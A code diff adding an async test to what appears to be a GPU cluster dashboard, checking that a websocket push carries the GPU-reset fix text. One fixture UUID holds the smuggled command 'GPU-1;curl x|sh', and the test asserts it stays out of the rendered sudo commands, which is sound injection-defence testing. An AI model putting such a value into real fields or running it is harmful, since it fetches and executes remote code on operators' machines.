@@ -203,3 +203,30 @@ async def test_a_page_whose_session_ended_is_closed_at_its_next_ping(
         assert closed == {"type": "websocket.close", "code": UNAUTHORISED}
     finally:
         await comm.disconnect()
+
+
+async def test_a_push_carries_the_fix_that_names_the_gpus_to_reset(session_cookie):
+    """The node page's Fix box follows the push with the same words as the page renders:
+    the summary has only the action, so the push adds the fix that names the GPUs."""
+    from inventory.models import GpuHealth
+    from macweb.dashboard.queries import health_fix
+
+    uuid = "GPU-5d2f7b1e-8c3a-4f6e-9b0d-2a7c1e4f8b93"
+
+    def prepare():
+        node = online_gpu_node(health_state="unhealthy", health_action="reset_gpu")
+        GpuHealth.objects.create(node=node, index=2, uuid=uuid, action="reset_gpu")
+        GpuHealth.objects.create(node=node, index=5, uuid="GPU-1;curl x|sh", action="reset_gpu")
+        return node, offline_node(), health_fix(node)
+
+    node, plain, fix = await sync_to_async(prepare)()
+    comm = await open_socket(session_cookie)
+    try:
+        await sync_to_async(broadcast_node_changes)([node.summary(), plain.summary()])
+        message = await comm.receive_json_from(timeout=5)
+    finally:
+        await comm.disconnect()
+    reset, other = message["changes"]
+    assert reset["health_fix"] == fix
+    assert f"  sudo mac gpu reset {uuid}\n  sudo mac gpu reset 5\n" in fix and "curl" not in fix
+    assert "health_fix" not in other  # its fix is the vocabulary's
